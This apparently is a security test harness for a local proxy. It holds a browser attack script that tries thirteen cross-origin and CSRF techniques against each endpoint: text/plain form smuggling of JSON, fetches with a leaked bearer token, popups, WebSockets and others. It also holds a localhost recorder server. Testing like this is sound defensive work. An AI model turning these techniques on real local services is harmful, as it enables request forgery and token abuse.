/**
 * The attacker's side of the XO tests (SECURITY.md §A): the attack script a page runs, and a small `node:http`
 * server that both serves the attack page and records every tagged request that reaches it (the recorder, the
 * positive control proving a technique really sends something). The script runs every technique at once against one
 * endpoint after another, each attempt bounded (3 s), and reports per cell whether JS could read anything.
 */
import { createHash } from 'node:crypto'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import type { Duplex } from 'node:stream'

/** The techniques, in the order the page runs them (T5 twice: unknown token, then a leaked one). */
export const TECHNIQUES = [
  'T1 form POST text/plain',
  'T2 form POST urlencoded',
  'T3 form POST multipart',
  'T4 fetch no-cors text/plain',
  'T5 fetch cors application/json',
  'T5 fetch cors + leaked token',
  'T6 fetch credentials:include + custom header',
  'T7 <img>',
  'T7 <script>',
  'T8 <iframe>',
  'T9 window.open',
  'T10 sendBeacon',
  'T11 WebSocket',
  'T12 EventSource',
  'T13 fetch keepalive',
] as const
export type Technique = (typeof TECHNIQUES)[number]

/** An endpoint the page attacks. */
export interface Endpoint {
  method: 'GET' | 'POST'
  path: string
  /**
   * The body a POST sends (fetch techniques, sendBeacon, and the `text/plain` form, which splits it at its last `"`
   * so the form's `=` lands inside a string); a Responses API request when absent.
   */
  body?: string
}

/** One target for the page: where to send, and how to tag requests for the recorder. */
export interface AttackConfig {
  /** `proxy`, `recorder`, … (names the target in the results). */
  label: string
  /** The origin id (`O1`, …), part of the recorder tag. */
  origin: string
  http: string
  ws: string
  /** Adds `?cell=<origin>|<endpoint>|<technique>` (never for the proxy: its paths must be exact). */
  tag: boolean
  /** Asks the recorder to answer permissively (CORS, images, scripts, SSE, WebSocket). */
  open: boolean
  /** Sent as `Authorization: Bearer` by the leaked-token technique. */
  token: string
  /** Techniques not run (see the O3 iframe origin in the test). */
  skip: Technique[]
  endpoints: Endpoint[]
  /**
   * Headers every fetch technique (T4, T5, T6, T13) adds on top of its own, e.g. a target's static CSRF header and
   * `content-type: application/json`. In `no-cors` mode (T4, T13) the browser silently drops any that are not
   * CORS-safelisted, which is the point: the page asks for them anyway. None when absent.
   */
  extraHeaders?: Record<string, string>
}

/** What the page reports for one cell. */
export interface CellResult {
  target: string
  endpoint: string
  technique: string
  read: boolean
  detail: string
}

/** The page's report: its own origin (`null` in the sandbox) and every cell. */
export interface AttackReport {
  origin: string
  results: CellResult[]
}

/** The recorder tag of a cell. */
export function cellTag(origin: string, endpoint: Endpoint, technique: string): string {
  return `${origin}|${endpoint.method} ${endpoint.path}|${technique}`
}

/** Checks the shape of what `page.evaluate` returned. */
export function parseReport(value: unknown): AttackReport {
  const report = value as Partial<AttackReport> | null
  if (
    typeof report?.origin !== 'string' ||
    !Array.isArray(report.results) ||
    !report.results.every(
      (cell: Partial<CellResult>) =>
        typeof cell.target === 'string' &&
        typeof cell.endpoint === 'string' &&
        typeof cell.technique === 'string' &&
        typeof cell.read === 'boolean' &&
        typeof cell.detail === 'string',
    )
  ) {
    throw new Error(`malformed attack report: ${JSON.stringify(value)}`)
  }
  return report as AttackReport
}

/**
 * The attack script (plain browser JS, no backticks). Defines `__attack(configs)` (runs here and stores the
 * report in `window.__results`), `__attackSandboxed(configs)` (runs the same script in an opaque-origin
 * sandboxed iframe and relays its report) and `__runAll`. A technique reads something only when a fetch resolves
 * non-opaque, a frame or popup becomes script-accessible after navigating, an image or script loads, or a
 * WebSocket/EventSource opens; a timeout keeps whatever was observed so far (never hides a read).
 */
export const ATTACK_SCRIPT = String.raw`(function () {
  'use strict'
  var SETTLE_MS = 3000
  var BODY = JSON.stringify({ model: 'gpt-5.4', input: [{ role: 'user', content: 'xo' }], stream: false })
  function sleep(ms) { return new Promise(function (resolve) { setTimeout(resolve, ms) }) }
  function text(value) { return String(value).slice(0, 80) }

  function target(cfg, ep, tech) {
    var params = cfg.tag ? { cell: cfg.origin + '|' + ep.method + ' ' + ep.path + '|' + tech } : {}
    if (cfg.tag && cfg.open) params.mode = 'open'
    var query = new URLSearchParams(params).toString()
    var suffix = query === '' ? '' : '?' + query
    return { http: cfg.http + ep.path + suffix, ws: cfg.ws + ep.path + suffix, params: params }
  }

  // What script can read of a window: null while it is still the initial about:blank, else a verdict.
  function peek(win) {
    try {
      var href = win.location.href
      if (href === 'about:blank' || win.document.readyState !== 'complete') return null
      var body = win.document.body ? win.document.body.textContent : ''
      return { read: true, detail: 'read ' + href + ': ' + text(body) }
    } catch (error) {
      return { read: false, detail: 'cross-origin (' + error.name + ')' }
    }
  }
  async function watch(win, note) {
    note.detail = 'never left about:blank'
    var deadline = Date.now() + SETTLE_MS
    while (Date.now() < deadline) {
      var seen = peek(win)
      if (seen) return seen
      await sleep(50)
    }
    return note
  }
  function hiddenFrame() {
    var frame = document.createElement('iframe')
    frame.name = 'xo' + Math.random().toString(36).slice(2)
    frame.width = '1'
    frame.height = '1'
    document.body.appendChild(frame)
    return frame
  }
  function form(enctype) {
    return function (t, ep, cfg, note) {
      var frame = hiddenFrame()
      var element = document.createElement('form')
      element.method = ep.method
      element.target = frame.name
      function field(name, value) {
        var input = document.createElement('input')
        input.type = 'hidden'
        input.name = name
        input.value = value
        element.appendChild(input)
      }
      if (ep.method === 'GET') {
        // A GET form replaces the query, so the recorder tag travels as fields.
        element.action = cfg.http + ep.path
        Object.keys(t.params).forEach(function (name) { field(name, t.params[name]) })
      } else {
        element.action = t.http
        element.enctype = enctype
        if (enctype === 'text/plain') {
          if (ep.body) {
            var cut = ep.body.lastIndexOf('"')
            if (cut < 0) cut = ep.body.length
            field(ep.body.slice(0, cut), ep.body.slice(cut))
          } else {
            field('{"model":"gpt-5.4","input":"xo","pad":"', '"}')
          }
        } else {
          field('input', 'xo')
        }
      }
      document.body.appendChild(element)
      element.submit()
      return watch(frame.contentWindow, note)
    }
  }
  function fetched(init) {
    return async function (t, ep, cfg) {
      var options = init(ep, cfg)
      options.headers = Object.assign({}, options.headers, cfg.extraHeaders || {})
      if (ep.method === 'POST') options.body = ep.body || BODY
      options.method = ep.method
      try {
        var response = await fetch(t.http, options)
        if (response.type === 'opaque') return { read: false, detail: 'opaque response' }
        return { read: true, detail: response.status + ' ' + text(await response.text()) }
      } catch (error) {
        return { read: false, detail: 'rejected (' + error.name + ')' }
      }
    }
  }
  function element(tag) {
    return function (t) {
      return new Promise(function (resolve) {
        var node = document.createElement(tag)
        node.onload = function () { resolve({ read: true, detail: tag + ' load event' }) }
        node.onerror = function () { resolve({ read: false, detail: tag + ' error event' }) }
        node.src = t.http
        if (tag === 'script') document.head.appendChild(node)
      })
    }
  }

  var TECHNIQUES = {
    'T1 form POST text/plain': form('text/plain'),
    'T2 form POST urlencoded': form('application/x-www-form-urlencoded'),
    'T3 form POST multipart': form('multipart/form-data'),
    'T4 fetch no-cors text/plain': fetched(function () {
      return { mode: 'no-cors', headers: { 'content-type': 'text/plain' } }
    }),
    'T5 fetch cors application/json': fetched(function () {
      return { mode: 'cors', headers: { 'content-type': 'application/json' } }
    }),
    'T5 fetch cors + leaked token': fetched(function (ep, cfg) {
      return {
        mode: 'cors',
        headers: { 'content-type': 'application/json', authorization: 'Bearer ' + cfg.token },
      }
    }),
    'T6 fetch credentials:include + custom header': fetched(function () {
      return {
        mode: 'cors',
        credentials: 'include',
        headers: { 'content-type': 'text/plain', 'x-proxy-token': 'guess-' + Math.random() },
      }
    }),
    'T7 <img>': element('img'),
    'T7 <script>': element('script'),
    'T8 <iframe>': function (t, ep, cfg, note) {
      var frame = hiddenFrame()
      frame.src = t.http
      return watch(frame.contentWindow, note)
    },
    'T9 window.open': async function (t, ep, cfg, note) {
      var popup = window.open(t.http, '_blank')
      if (!popup) return { read: false, detail: 'popup blocked' }
      try {
        return await watch(popup, note)
      } finally {
        setTimeout(function () { popup.close() }, 200)
      }
    },
    'T10 sendBeacon': function (t, ep) {
      var queued = navigator.sendBeacon(t.http, ep.body || BODY)
      return { read: false, detail: 'sendBeacon ' + queued + ' (no response API)' }
    },
    'T11 WebSocket': function (t, ep, cfg, note) {
      return new Promise(function (resolve) {
        var socket = new WebSocket(t.ws)
        socket.onopen = function () { note.read = true; note.detail = 'opened' }
        socket.onmessage = function (message) {
          socket.close()
          resolve({ read: true, detail: 'message ' + text(message.data) })
        }
        socket.onclose = function (event) {
          resolve({ read: note.read, detail: (note.read ? 'opened, ' : '') + 'closed ' + event.code })
        }
      })
    },
    'T12 EventSource': function (t, ep, cfg, note) {
      return new Promise(function (resolve) {
        var source = new EventSource(t.http)
        source.onopen = function () { note.read = true; note.detail = 'opened' }
        source.onmessage = function (message) {
          source.close()
          resolve({ read: true, detail: 'message ' + text(message.data) })
        }
        source.onerror = function () {
          source.close()
          resolve({ read: note.read, detail: (note.read ? 'opened, ' : '') + 'error event' })
        }
      })
    },
    'T13 fetch keepalive': fetched(function () {
      return { mode: 'no-cors', keepalive: true, headers: { 'content-type': 'text/plain' } }
    }),
  }

  // One endpoint at a time (its techniques at once), so a slow machine does not starve the socket pool.
  async function runAll(configs) {
    var results = []
    for (var i = 0; i < configs[0].endpoints.length; i++) {
      results = results.concat(await runEndpoint(configs, i))
    }
    return { origin: self.origin, results: results }
  }
  function runEndpoint(configs, index) {
    var jobs = []
    configs.forEach(function (cfg) {
      [cfg.endpoints[index]].forEach(function (ep) {
        var techniques = Object.keys(TECHNIQUES).filter(function (tech) {
          return cfg.skip.indexOf(tech) === -1
        })
        techniques.forEach(function (tech) {
          var note = { read: false, detail: 'timeout' }
          var started = Date.now()
          var attempt = Promise.resolve()
            .then(function () { return TECHNIQUES[tech](target(cfg, ep, tech), ep, cfg, note) })
            .catch(function (error) { return { read: note.read, detail: 'threw ' + error.name } })
          var settled = Promise.race([attempt, sleep(SETTLE_MS).then(function () { return note })])
          jobs.push(settled.then(function (verdict) {
            return {
              target: cfg.label,
              endpoint: ep.method + ' ' + ep.path,
              technique: tech,
              read: verdict.read,
              detail: verdict.detail + ' [' + (Date.now() - started) + ' ms]',
            }
          }))
        })
      })
    })
    return Promise.all(jobs)
  }

  window.__runAll = runAll
  window.__attack = async function (configs) {
    window.__results = await runAll(configs)
    return window.__results
  }
  window.__attackSandboxed = function (configs) {
    var source = document.getElementById('attack').textContent
    var end = '<' + '/script>'
    return new Promise(function (resolve) {
      var frame = document.createElement('iframe')
      // Opaque origin; forms and popups allowed so those techniques are as strong as from O1.
      frame.setAttribute('sandbox', 'allow-scripts allow-forms allow-popups')
      window.addEventListener('message', function (event) {
        if (event.source === frame.contentWindow && event.data && event.data.xo) {
          window.__results = event.data.xo
          resolve(event.data.xo)
        }
      })
      var limit = configs[0].endpoints.length * SETTLE_MS + 5000
      setTimeout(function () { resolve({ origin: 'sandbox timed out', results: [] }) }, limit)
      frame.srcdoc = '<!doctype html><body><script id="attack">' + source + end +
        '<script>__runAll(' + JSON.stringify(configs) + ').then(function (report) {' +
        ' parent.postMessage({ xo: report }, "*") })' + end
      document.body.appendChild(frame)
    })
  }
})()
`

const ATTACK_PAGE = `<!doctype html><meta charset="utf-8"><title>xo</title><body>
<script id="attack">${ATTACK_SCRIPT}</script>`

// A 1×1 transparent GIF, so `<img>` can load from a permissive recorder.
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const WS_GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11'

/** A request the server saw with a `cell` tag. */
export interface Hit {
  cell: string
  method: string
  upgrade: boolean
  /** It carried `Origin` or a `Sec-Fetch-*` header (what the proxy's origin gate refuses). */
  browserMarked: boolean
}

/** The attacker's server: serves `/attack.html`, records tagged requests. */
export interface XoServer {
  readonly port: number
  readonly hits: Hit[]
  close(): Promise<void>
}

function isBrowserMarked(req: IncomingMessage): boolean {
  return Object.keys(req.headers).some((name) => name === 'origin' || name.startsWith('sec-fetch-'))
}

function tagOf(req: IncomingMessage): { cell: string | null; open: boolean } {
  const query = new URL(req.url ?? '/', 'http://recorder.invalid').searchParams
  return { cell: query.get('cell'), open: query.get('mode') === 'open' }
}

/**
 * Answers a tagged request. Closed (default): 200 `text/plain` with `nosniff`, no CORS headers, so nothing is
 * readable cross-origin. Open: CORS for the request's origin with credentials, any preflight allowed, and a body
 * each technique can observe (an image, a script, an SSE event).
 */
function answer(req: IncomingMessage, res: ServerResponse, cell: string, open: boolean): void {
  req.resume()
  if (!open) {
    if (req.method === 'OPTIONS') {
      res.writeHead(204).end()
      return
    }
    res.writeHead(200, { 'content-type': 'text/plain', 'x-content-type-options': 'nosniff' })
    res.end('recorded')
    return
  }
  res.setHeader('access-control-allow-origin', req.headers.origin ?? '*')
  res.setHeader('access-control-allow-credentials', 'true')
  res.setHeader('vary', 'origin')
  if (req.method === 'OPTIONS') {
    res.setHeader('access-control-allow-methods', 'GET, POST')
    res.setHeader(
      'access-control-allow-headers',
      req.headers['access-control-request-headers'] ?? '',
    )
    res.writeHead(204).end()
    return
  }
  if (cell.endsWith('|T7 <img>')) {
    res.writeHead(200, { 'content-type': 'image/gif' }).end(GIF)
  } else if (cell.endsWith('|T7 <script>')) {
    res.writeHead(200, { 'content-type': 'text/javascript' }).end('void 0')
  } else if (cell.endsWith('|T12 EventSource')) {
    res.writeHead(200, { 'content-type': 'text/event-stream' }).end('data: read\n\n')
  } else {
    res.writeHead(200, { 'content-type': 'text/plain' }).end(`read ${cell}`)
  }
}

/** Completes a WebSocket handshake, sends one text frame and closes (open mode), else answers 400. */
function answerUpgrade(req: IncomingMessage, socket: Duplex, open: boolean): void {
  socket.on('error', () => undefined)
  const key = req.headers['sec-websocket-key']
  if (!open || typeof key !== 'string') {
    socket.end('HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\nconnection: close\r\n\r\n')
    return
  }
  const accept = createHash('sha1')
    .update(key + WS_GUID)
    .digest('base64')
  const payload = Buffer.from('read')
  socket.write(
    'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
      `Sec-WebSocket-Accept: ${accept}\r\n\r\n`,
  )
  // One text frame, then a close frame, so the connection does not linger in Chromium's socket pool.
  socket.end(Buffer.concat([Buffer.from([0x81, payload.length]), payload, Buffer.from([0x88, 0])]))
}

/** Starts an attacker/recorder server on an ephemeral 127.0.0.1 port. */
export async function startXoServer(): Promise<XoServer> {
  const hits: Hit[] = []
  const sockets = new Set<Socket | Duplex>()
  const server = createServer((req, res) => {
    if (req.url === '/attack.html' || req.url === '/attack-null.html') {
      res.writeHead(200, {
        'content-type': 'text/html; charset=utf-8',
        'cache-control': 'no-store',
        // The same page as an opaque-origin document: CSP sandbox, forms and popups allowed.
        ...(req.url === '/attack-null.html'
          ? { 'content-security-policy': 'sandbox allow-scripts allow-forms allow-popups' }
          : {}),
      })
      res.end(ATTACK_PAGE)
      return
    }
    const { cell, open } = tagOf(req)
    if (cell === null) {
      res.writeHead(404).end()
      return
    }
    hits.push({
      cell,
      method: req.method ?? '',
      upgrade: false,
      browserMarked: isBrowserMarked(req),
    })
    answer(req, res, cell, open)
  })
  server.on('connection', (socket: Socket) => {
    sockets.add(socket)
    socket.on('close', () => sockets.delete(socket))
  })
  server.on('upgrade', (req: IncomingMessage, socket: Duplex) => {
    const { cell, open } = tagOf(req)
    if (cell !== null) {
      hits.push({
        cell,
        method: req.method ?? '',
        upgrade: true,
        browserMarked: isBrowserMarked(req),
      })
    }
    answerUpgrade(req, socket, open && cell !== null)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    port: (server.address() as AddressInfo).port,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => {
          resolve()
        })
        for (const socket of sockets) socket.destroy()
      }),
  }
}
